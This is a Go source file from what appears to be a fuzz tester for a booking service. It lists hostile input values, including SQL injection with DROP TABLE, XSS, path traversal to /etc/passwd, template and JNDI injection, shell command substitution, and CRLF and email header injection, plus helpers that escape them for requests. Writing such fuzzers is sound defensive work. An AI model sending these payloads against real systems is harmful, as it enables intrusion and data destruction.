package fuzz

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
)

// payloads are values nobody means well with; M stands for the mark by which they are found again.
var payloads = []string{
	"M", "", " M ", "M' OR '1'='1", `M"; DROP TABLE bookings;--`, "M') UNION ALL VALUES (1,2)--", "M\\", "M%' ESCAPE '", "$1 M", "M::int",
	"<script>M</script>", `"><img src=x onerror=M>`, "javascript:M", "<svg/onload=M>", "&lt;M&gt;", "M]]>", "'-M-'",
	"../../../../etc/passwd/M", "..\\..\\M", "/etc/passwd/M", "M.env", "file:///M", "C:\\M", "M/./..//", "%2e%2e%2fM", "..;/M",
	"{{1234321*7}}M", "${1234321*7}M", "<%= 1234321*7 %>M", "#{1234321*7}M", "{{.}}M", `{{printf "%s" .}}M`, "${jndi:ldap://M.example/a}", "$(M)", "`M`", "|M", ";M;",
	"M\r\nX-Injected: M", "M\x00", "\x00", "M\x1b[31m", "M\n", "\tM", "M\u202e\u2066", "M\ufeff", "\u0130M", "Ｍ M", "M\xff\xfe", "\xc0\xaeM", "\xed\xa0\x80M", "M🦘🦘", "M\u0301\u0301\u0301",
	"-1", "0", "1", "00", "2147483648", "-9223372036854775809", "99999999999999999999999999999999999999", "1e309", "NaN", "Infinity", "0x10", "1.5", "1,5", "+1", "١٢٣",
	"null", "true", "false", "[]", "{}", "undefined", "[object Object]", "%s%d%v M", "%!M", "M%", "%zz", "%", "M&M=M", "M;M", "M#M", "M?M",
	"2026-02-30", "0000-00-00", "99999-01-01", "2026-12-01", "2026-12-01T25:61:00Z", "2026-12-01T10:00:00", "2026-12-01T10:00:00+99:00", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "1969-12-31T23:59:59.999999999-12:00",
	"Australia/Sydney", "Australia/../../M", "Etc/GMT+99", "Local", "UTC", "M/M", "posixrules",
	"M@example.org", "M@", "@M", "M@M@M", "\"M\"@example.org", "M@[127.0.0.1]", "a@b.c\r\nBcc: M@example.org", "0491 570 006", "+61491570006", "000", "tel:M",
	"nsw", "NSW", "qld,vic", "nsw,,", "psychologist", "clinical-psychologist", "anxiety", "panic", "video", "phone", "in-person", "newtown-2042", "2042", "suicide M", "sleep", "soonest", "distance", "price", "any", "all", "today,week", "couple", "standard", "free-consultation",
}

// long is a value of many thousand characters.
func long(r *rand.Rand, mark string) string {
	unit := []string{mark, "a", "é", "(", "%41", "../", "[", "\"", "0", ","}[r.IntN(10)]
	return mark + strings.Repeat(unit, (1+r.IntN(6000))/len(unit))
}

// payload is one of them with the mark in it.
func (d *fuzzClient) payload() string {
	if d.r.IntN(60) == 0 {
		return long(d.r, d.mark)
	}
	p := strings.ReplaceAll(payloads[d.r.IntN(len(payloads))], "M", d.mark)
	if d.r.IntN(12) == 0 {
		p += strings.ReplaceAll(payloads[d.r.IntN(len(payloads))], "M", d.mark)
	}
	return p
}

// escaped writes a value for a path or query, now and then only as far as a request line needs.
func (d *fuzzClient) escaped(v string) string {
	switch d.r.IntN(10) {
	case 0, 1:
		return bare(v)
	case 2:
		var b strings.Builder // every byte by its number
		for i := range len(v) {
			fmt.Fprintf(&b, "%%%02x", v[i])
		}
		return b.String()
	case 3:
		return url.QueryEscape(v)
	}
	return url.PathEscape(v)
}

// bare escapes what would end the request line.
func bare(v string) string {
	var b strings.Builder
	for i := range len(v) {
		if v[i] <= ' ' || v[i] == 0x7f {
			fmt.Fprintf(&b, "%%%02X", v[i])
		} else {
			b.WriteByte(v[i])
		}
	}
	return b.String()
}
